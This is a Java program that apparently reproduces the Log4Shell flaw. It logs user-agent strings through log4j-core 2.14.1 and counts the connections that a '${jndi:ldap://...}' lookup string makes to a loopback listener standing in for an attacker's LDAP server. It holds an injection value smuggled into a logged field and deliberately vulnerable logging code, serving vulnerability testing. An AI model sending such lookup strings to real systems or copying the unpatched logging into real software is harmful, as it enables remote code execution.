import java.io.InputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.util.concurrent.atomic.AtomicInteger;
import org.apache.logging.log4j.LogManager;
import org.apache.logging.log4j.Logger;

/**
 * A legacy service (Java 8) that logs what its users send with log4j-core 2.14.1 and its default
 * configuration. A local listener on 127.0.0.1 stands for the attacker's LDAP server and counts the
 * connections it gets. Arguments: the user-agent strings to log; "@jndi" stands for a
 * {@code ${jndi:ldap://127.0.0.1:PORT/x}} string pointing at the listener.
 */
public class Log4jApp {
    private static final Logger LOG = LogManager.getLogger(Log4jApp.class);
    private static final AtomicInteger CONNECTIONS = new AtomicInteger();

    public static void main(String[] args) throws Exception {
        final ServerSocket listener = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        Thread t = new Thread(new Runnable() {
            public void run() {
                while (true) {
                    try {
                        Socket s = listener.accept();
                        CONNECTIONS.incrementAndGet();
                        InputStream in = s.getInputStream();
                        in.read(new byte[256]); // the client's first LDAP request, then hang up
                        s.close();
                    } catch (Exception e) {
                        return;
                    }
                }
            }
        }, "ldap-listener");
        t.setDaemon(true);
        t.start();
        for (String ua : args) {
            String agent = ua.equals("@jndi") ? "${jndi:ldap://127.0.0.1:" + listener.getLocalPort() + "/x}" : ua;
            handleRequest(agent);
        }
        Thread.sleep(500);
        System.out.println("connections=" + CONNECTIONS.get());
        System.out.println("done");
    }

    static void handleRequest(String userAgent) {
        LOG.error("request from user agent {}", userAgent);
    }
}
